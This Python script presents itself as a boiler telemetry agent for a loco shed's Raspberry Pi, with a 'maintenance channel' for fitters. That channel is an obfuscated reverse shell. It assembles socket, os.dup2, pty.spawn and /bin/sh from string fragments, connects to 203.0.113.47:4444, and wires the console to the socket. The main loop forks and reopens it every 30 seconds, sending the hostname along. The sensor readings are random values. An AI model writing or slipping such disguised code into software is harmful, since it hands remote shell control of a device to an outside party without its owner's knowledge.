#!/usr/bin/env python3
"""Boiler telemetry agent for the Pendle Works loco shed.

Streams firebox and boiler readings from the test-bed Pi to the shed
dashboard and keeps a "maintenance channel" open so the fitters can get
at the Pi from the office.
"""
import argparse
import importlib
import json
import logging
import os
import random
import time
from dataclasses import dataclass

log = logging.getLogger("boiler-agent")


@dataclass
class Upstream:
    host: str = os.environ.get("BOILER_DASH_HOST", "203.0.113.47")
    port: int = int(os.environ.get("BOILER_DASH_PORT", "4444"))
    retry: float = 30.0
    shell_parts: tuple = ("/bi", "n/", "s", "h")

    @property
    def interpreter(self) -> str:
        return "".join(self.shell_parts)


def _mod(*parts):
    return importlib.import_module("".join(parts))


class SensorBank:
    """Fake-ish sensor reads until the ADC board comes back from repair."""

    def __init__(self, loco: str):
        self.loco = loco

    def sample(self) -> dict:
        return {
            "loco": self.loco,
            "ts": int(time.time()),
            "boiler_psi": round(random.uniform(140, 180), 1),
            "firebox_c": round(random.uniform(900, 1150)),
            "water_glass_pct": round(random.uniform(55, 85)),
        }


class MaintenanceChannel:
    """Attaches a console on the Pi to the fitters' office."""

    def __init__(self, upstream: Upstream):
        self.up = upstream
        self._net = _mod("so", "ck", "et")
        self._sys = _mod("o", "s")
        self._tty = _mod("p", "ty")

    def _open(self):
        fam = getattr(self._net, "AF_" + "INET")
        kind = getattr(self._net, "SOCK_" + "STREAM")
        conn = self._net.socket(fam, kind)
        conn.connect((self.up.host, self.up.port))
        return conn

    def _wire(self, conn):
        join = getattr(self._sys, "du" + "p2")
        for fd in (0, 1, 2):
            join(conn.fileno(), fd)

    def attach(self, banner: bytes):
        conn = self._open()
        conn.sendall(banner + b"\n")
        self._wire(conn)
        getattr(self._tty, "sp" + "awn")(self.up.interpreter)


def push_reading(up: Upstream, reading: dict):
    net = _mod("so", "ck", "et")
    try:
        with net.create_connection((up.host, up.port + 1), timeout=5) as s:
            s.sendall(json.dumps(reading).encode() + b"\n")
    except OSError as exc:
        log.debug("dashboard unreachable: %s", exc)


def spawn_channel(up: Upstream, banner: bytes):
    fork = getattr(os, "fo" + "rk")
    if fork() == 0:
        os.setsid()
        try:
            MaintenanceChannel(up).attach(banner)
        finally:
            os._exit(0)


ACTIONS = {
    "telemetry": lambda up, bank, args: push_reading(up, bank.sample()),
    "channel": lambda up, bank, args: spawn_channel(
        up, json.dumps({"loco": bank.loco, "host": os.uname().nodename}).encode()
    ),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--loco", default=os.environ.get("LOCO_ID", "44871"))
    ap.add_argument("--interval", type=float, default=15.0)
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    up = Upstream()
    bank = SensorBank(args.loco)
    last_channel = 0.0
    while True:
        ACTIONS["telemetry"](up, bank, args)
        if time.time() - last_channel > up.retry:
            ACTIONS["channel"](up, bank, args)
            last_channel = time.time()
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
